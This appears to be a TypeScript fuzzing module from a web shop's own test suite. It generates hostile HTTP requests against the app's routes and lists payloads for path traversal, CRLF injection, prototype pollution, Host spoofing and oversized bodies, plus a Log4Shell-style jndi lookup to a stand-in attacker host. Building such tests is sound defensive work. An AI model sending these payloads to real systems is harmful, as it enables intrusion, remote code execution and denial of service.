import type { Caller, Callers } from '#tests/fuzz/callers.ts'
import { isAllowed, type Place } from '#tests/fuzz/places.ts'
import { asJson, hostileText, hostileValue, type Known, likelyValue } from '#tests/fuzz/values.ts'
import { type Chance, chanceOfRequest } from '#tests/support/chance.ts'
import { inAddress } from '#tests/support/hostile-input.ts'

export type Hostile = {
  n: number
  place: Place
  caller: Caller
  method: string
  /** Path and query as they are sent. */
  url: string
  headers: Record<string, string>
  body?: string | Buffer
}

/**
 * Request n of a seed. Staff with the permission really may change things, so they only do so where `insiders` is set;
 * otherwise they read, and make the calls that their role is refused.
 */
export function hostileRequest(
  { seed, places, callers, insiders }: { seed: number; places: Place[]; callers: Callers; insiders: boolean },
  n: number,
): Hostile {
  const chance = chanceOfRequest(seed, n)
  const isPage = !insiders && chance.hit(0.07)
  for (;;) {
    const place = chance.pick(places)
    // Rendering a page costs as much as twenty calls.
    if (isPage !== (place.kind === 'page')) continue
    const caller = chance.pick(place.kind === 'desk' ? callers.desk : callers.shop)
    const isRead = place.method === 'GET'
    if (!isRead && caller.headers.authorization && endsSignIn.test(place.path)) continue
    const mayChange = !isRead && caller.role !== undefined && isAllowed(place, caller.role)
    if (mayChange ? !insiders || endsTheRun.test(place.path) : insiders && place.kind !== 'desk') continue
    const hostile = madeFor(chance, n, place, caller, callers.known)
    // With another method the same path may be a change that this role may make.
    const meant = places.find(({ path, method }) => path === place.path && method === hostile.method)
    if (meant && meant !== place && caller.role !== undefined && isAllowed(meant, caller.role)) continue
    return hostile
  }
}

/**
 * What a member of staff may do, and after which the others could not go on: signing out, blocking, closing the shop, and
 * deleting the customer who calls.
 */
const endsTheRun =
  /desk\/(session|link|forgot|self\/(password|sessions|app)|people|settings\/maintenance|opening\/open|customers\/\{id\}(\/state)?$)/

/** What a customer does not call, for the same reason. */
const endsSignIn = /auth\/logout|my-account\/(delete|sign-ins|second-factor)|change-password/

function madeFor(chance: Chance, n: number, place: Place, caller: Caller, known: Known): Hostile {
  const method = chance.hit(0.03)
    ? chance.pick(['HEAD', 'OPTIONS', 'PATCH', 'PUT', 'DELETE', 'TRACE', 'QUERY'])
    : place.method
  const likely = (name: string) => String(likelyValue(chance, { type: 'string' }, name, known))
  const path = place.path.replaceAll(/\{(\w+)\}/g, (_, name: string) => {
    if (chance.hit(0.75)) return encodeURIComponent(likely(name))
    return chance.hit(0.3) ? chance.pick(oddPaths) : inAddress(hostileText(chance)).slice(0, 6_000)
  })
  const url = `${path}${chance.hit(0.02) ? chance.pick(oddPaths) : ''}${queryOf(chance, place, known)}`
  const headers: Record<string, string> = { ...caller.headers, ...oddHeaders(chance) }
  headers['x-forwarded-for'] ??= addressOf(chance)
  if (method === 'GET' || method === 'HEAD') return { n, place, caller, method, url, headers }
  return { n, place, caller, method, url, headers, ...bodyOf(chance, place, known, headers) }
}

const oddPaths = [
  '%',
  '%zz',
  '%c0%af',
  '..%2f..%2f..%2fetc%2fpasswd',
  '../../etc/passwd',
  '.',
  '%2e%2e',
  '%ff',
  '//',
  ';a=b',
  '%0d%0aX-Fuzz:%201',
  '%00',
  '%e2%80%ae',
  '__proto__',
  '%u0041',
  '\\..\\',
]

function queryOf(chance: Chance, { query }: Place, known: Known): string {
  const parts: string[] = []
  for (const [name, schema] of Object.entries(query)) {
    if (!chance.hit(0.5)) continue
    const value = chance.hit(0.6) ? String(likelyValue(chance, schema, name, known)) : hostileText(chance)
    const pair = `${name}=${inAddress(value)}`
    parts.push(pair)
    if (chance.hit(0.1)) parts.push(pair, `${name}[]=1`, `${name}[a][b]=2`, `${name}=`)
  }
  if (chance.hit(0.05))
    parts.push(
      chance.pick([
        '__proto__[polluted]=1',
        'constructor.prototype.polluted=1',
        '=',
        '&&&',
        '%',
        '%zz=%zz',
        'a'.repeat(3000),
      ]),
    )
  if (chance.hit(0.01)) parts.push(...Array.from({ length: 1500 }, (_, i) => `q${i}=1`))
  return parts.length > 0 ? `?${parts.join('&').slice(0, 14_000)}` : ''
}

function bodyOf(chance: Chance, { body: schema = {}, path }: Place, known: Known, headers: Record<string, string>) {
  headers['content-type'] = chance.hit(0.95) ? 'application/json' : chance.pick(oddTypes)
  if (/pictures$|parts$/.test(path) && chance.hit(0.7)) headers['content-type'] = 'application/octet-stream'
  const value = likelyValue(chance, schema, '', known)
  const worse = chance.hit(0.25) ? value : worsened(chance, value)
  const json = asJson(worse)
  if (chance.hit(0.94)) return { body: json }
  return {
    body: chance.pick([
      '',
      json.slice(0, json.length >> 1),
      `{"__proto__":{"polluted":1},${json.slice(1)}`,
      `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
      `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
      `{${Array.from({ length: 8_000 }, (_, i) => `"k${i}":${i}`).join()}}`,
      `"${'x'.repeat(250_000)}"`,
      'x'.repeat(300_000),
      '\ufeff{}',
      'null',
      '{"a":1,"a":2}',
      Buffer.from([0xff, 0xfe, 0x00, 0x80]),
      '--x\r\ncontent-disposition: form-data; name="photos"; filename="../../a.jpg"\r\n\r\nx\r\n--x--\r\n',
    ]),
  }
}

const oddTypes = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'application/json; charset=utf-16',
  'application/xml',
  'a',
  'application/octet-stream',
  'image/svg+xml',
]

/** The value with one or two of its parts replaced, removed, repeated or added. */
function worsened(chance: Chance, value: unknown): unknown {
  if (typeof value !== 'object' || value === null) return hostileValue(chance)
  const keys = Object.keys(value)
  const changed: Record<string, unknown> = { ...value }
  for (let times = 1 + chance.below(2); times > 0; times--) {
    const key =
      keys.length > 0 && chance.hit(0.9) ? chance.pick(keys) : chance.pick(['id', 'price', 'role', 'total', 'x'])
    const inner = changed[key]
    const way = chance.below(10)
    if (way === 0) delete changed[key]
    else if (way === 1) changed[key] = [inner, inner]
    else if (typeof inner === 'object' && inner !== null && chance.hit(0.6)) changed[key] = worsened(chance, inner)
    else changed[key] = hostileValue(chance)
  }
  return Array.isArray(value) ? Object.values(changed) : changed
}

/** An address of its own for almost every request, so that the limits for each let the request reach the code. */
function addressOf(chance: Chance): string {
  const [a, b, c] = [chance.below(256), chance.below(256), 1 + chance.below(254)]
  return chance.hit(0.9) ? `10.${a}.${b}.${c}` : `2001:db8:${a.toString(16)}:${b.toString(16)}::${c}`
}

function oddHeaders(chance: Chance): Record<string, string> {
  if (!chance.hit(0.3)) return {}
  const [name, values] = chance.pick(Object.entries(headerAbuse))
  return { [name]: chance.pick(values) }
}

const headerAbuse: Record<string, string[]> = {
  host: ['evil.example', 'localhost:99999', '', '127.0.0.1', 'a b', '[::1]', 'x'.repeat(300)],
  'x-forwarded-for': [
    'x',
    '127.0.0.1',
    '::ffff:1.2.3.4',
    `${'1.2.3.4,'.repeat(300)}1.2.3.4`,
    '999.1.1.1',
    '::1%lo',
    '1.2.3.4:80',
  ],
  'x-forwarded-host': ['evil.example', 'evil.example, a', '<script>'],
  'x-forwarded-proto': ['https', 'javascript', 'https,http'],
  'accept-language': ['ar', 'ar-AE,en;q=0.5', '*', ';q=', 'x'.repeat(4000), 'ar;q=1e309', '<fz9x>'],
  'accept-encoding': ['br;q=0', 'gzip, br, zstd', '*', 'identity;q=0', ',,,', 'x'.repeat(2000)],
  accept: ['text/html', '*/*;q=x', 'application/json', 'x'.repeat(3000)],
  range: ['bytes=0-0', 'bytes=-1', 'bytes=9999999999999-', 'bytes=0-0,1-1,2-2', 'bytes=a-b', 'lines=1-2'],
  'if-none-match': ['*', 'W/"x"', '"'.repeat(200), 'x'.repeat(4000)],
  'if-modified-since': ['x', 'Thu, 01 Jan 1970 00:00:00 GMT', '99999999999999'],
  'if-range': ['"x"', 'x'],
  cookie: [
    'a',
    'buyer=x; XSRF-TOKEN=%zz',
    `${'a=b; '.repeat(500)}`,
    'desk=%00',
    'renewal=a.b',
    '__proto__=1',
    'XSRF-TOKEN=<fz9x>',
  ],
  authorization: ['Bearer', 'Bearer x', 'Basic eDp4', `Bearer ${'a'.repeat(43)}`, `Bearer ${'x'.repeat(5000)}`],
  origin: ['null', 'https://evil.example', 'x', 'http://127.0.0.1'],
  'sec-fetch-site': ['cross-site', 'same-origin', 'x'],
  'x-http-method-override': ['DELETE'],
  traceparent: ['00-x-y-01', `00-${'0'.repeat(32)}-${'0'.repeat(16)}-01`],
  'stripe-signature': ['t=1,v1=x', 't=1e309,v1=', `t=${'9'.repeat(400)},v1=${'0'.repeat(64)}`, ','],
  'last-event-id': ['x'.repeat(1000)],
  purpose: ['prefetch'],
  'user-agent': ['', '<fz9x>', 'x'.repeat(6000), 'Mozilla/5.0 (iPhone; \u0024{jndi:ldap://evil.example/a})'],
}
